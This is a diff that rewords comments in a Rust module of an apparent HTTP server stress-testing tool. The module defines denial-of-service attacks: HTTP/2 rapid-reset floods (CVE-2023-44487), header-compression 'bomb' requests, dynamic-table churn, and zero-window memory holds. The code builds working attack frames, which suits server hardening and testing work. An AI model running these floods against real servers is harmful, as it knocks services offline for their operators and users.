@@ -1,51 +1,51 @@
-//! The attacks: what each of them sends.
+//! Definitions of the attacks.
 
 use super::wire::*;
 
-/// What one connection of an attack sends in one turn.
+/// Action of an attack connection in one turn.
 pub enum Turn {
-    /// These bytes.
+    /// Sends these bytes.
     Send(Vec<u8>),
-    /// Nothing more: the connection stays as it is.
+    /// Sends nothing more and keeps the connection open.
     Stay,
 }
 
-/// An attack on a server.
+/// Definition of an attack.
 #[derive(Clone, Copy)]
 pub struct Attack {
-    /// Its name, as `--only` takes it.
+    /// Name, as `--only` takes it.
     pub name: &'static str,
-    /// What it does, with its CVE where it has one.
+    /// Description, with the CVE number if there is one.
     pub about: &'static str,
-    /// Whether it speaks HTTP/2.
+    /// Whether the attack uses HTTP/2.
     pub is_http2: bool,
-    /// Connections at once.
+    /// Number of concurrent connections.
     pub connections: usize,
-    /// Whether the attacker reads what it is sent.
+    /// Whether the attacker reads the server's responses.
     pub reads: bool,
-    /// Milliseconds between two turns of a connection; 0 for as fast as the server takes them.
+    /// Milliseconds between two turns of a connection; 0 for as fast as possible.
     pub pause_ms: u64,
-    /// What is sent in the turn of that number, from 0, after the preface and the settings of HTTP/2.
+    /// Returns the action of a turn (numbered from 0), after the HTTP/2 preface and settings.
     pub turn: fn(&AttackTarget, usize) -> Turn,
 }
 
-/// Frames sent together in a turn of a flood.
+/// Frames per turn of a flood.
 const BATCH: usize = 100;
-/// Streams that most servers allow at once.
+/// Concurrent streams that most servers allow.
 const STREAMS: usize = 100;
-/// Bytes of the field that header blocks refer to again and again.
+/// Size of the field value that header blocks refer to repeatedly.
 const BOMB_BYTES: usize = 4_000;
 
 fn flood(frame: &[u8]) -> Turn {
     Turn::Send(frame.repeat(BATCH))
 }
 
-/// A batch of requests, each followed by something.
+/// Returns a batch of requests; `request` builds the frames of one stream.
 fn requests(turn: usize, request: impl Fn(u32) -> Vec<u8>) -> Turn {
     Turn::Send((turn * BATCH..(turn + 1) * BATCH).flat_map(|at| request(stream(at))).collect())
 }
 
-/// `first` in the first turn, `rest` in all others.
+/// Returns `first` in the first turn, `rest` in all others.
 fn opens(turn: usize, first: impl FnOnce() -> Vec<u8>, rest: impl FnOnce() -> Turn) -> Turn {
     if turn == 0 { Turn::Send(first()) } else { rest() }
 }
@@ -54,7 +54,7 @@ fn many(count: usize, request: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
     (0..count).flat_map(|at| request(stream(at))).collect()
 }
 
-/// A request with references to a large field, which the first request of the connection brings into the table.
+/// Returns a request with references to a large field, which the first request adds to the dynamic table.
 fn bomb(target: &AttackTarget, at: usize, references: usize) -> Vec<u8> {
     let mut block = target.block(false);
     if at == 0 {
@@ -64,7 +64,7 @@ fn bomb(target: &AttackTarget, at: usize, references: usize) -> Vec<u8> {
     frame(kind::HEADERS, END_STREAM | END_HEADERS, stream(at), &block)
 }
 
-/// A header block that makes the table small and large again, and fills it.
+/// Returns a header block that shrinks the dynamic table, enlarges it again and fills it.
 fn churn(target: &AttackTarget, id: u32) -> Vec<u8> {
     let mut block = vec![0x20, 0x3f, 0xe1, 0x1f];
     block.extend(target.block(false));
@@ -90,12 +90,12 @@ const fn http1(
     Attack { name, about, is_http2: false, connections, reads, pause_ms, turn }
 }
 
-/// Connections of a flood, which sends as fast as it can.
+/// Connections, reading, and pause of a flood, which sends as fast as possible.
 const FLOOD: (usize, bool, u64) = (4, true, 0);
-/// Connections of an attack that holds memory and reads nothing.
+/// Connections, reading, and pause of an attack that occupies memory and reads nothing.
 const HOLD: (usize, bool, u64) = (50, false, 100);
 
-/// All attacks, those on HTTP/2 first.
+/// All attacks, beginning with those on HTTP/2.
 pub const ATTACKS: &[Attack] = &[
     http2("rapid-reset", "requests that are reset at once (CVE-2023-44487)", FLOOD, |to, turn| {
         requests(turn, |id| [to.get(id), rst_stream(id, 8)].concat())
@@ -124,7 +124,8 @@ pub const ATTACKS: &[Attack] = &[
         "small heads that unpack thousandfold, windows of 0 (CVE-2026-49975)",
         (20, false, 1),
         |to, turn| {
-            // Below the limit of a head, so that each is accepted; a window that never opens keeps what they hold.
+            // The heads stay below usual limits, so they are accepted; a window that never opens keeps their
+            // memory in use.
             opens(
                 turn,
                 || [settings(&[(INITIAL_WINDOW_SIZE, 0)]), bomb(to, 0, 2)].concat(),
@@ -205,10 +206,10 @@ pub const ATTACKS: &[Attack] = &[
     ),
 ];
 
-/// The attack of that name.
+/// Finds an attack by its name.
 ///
 /// # Errors
-/// The names that there are.
+/// The message lists the known names.
 pub fn find(name: &str) -> Result<&'static Attack, String> {
     ATTACKS.iter().find(|attack| attack.name == name).ok_or_else(|| {
         let names: Vec<&str> = ATTACKS.iter().map(|attack| attack.name).collect();
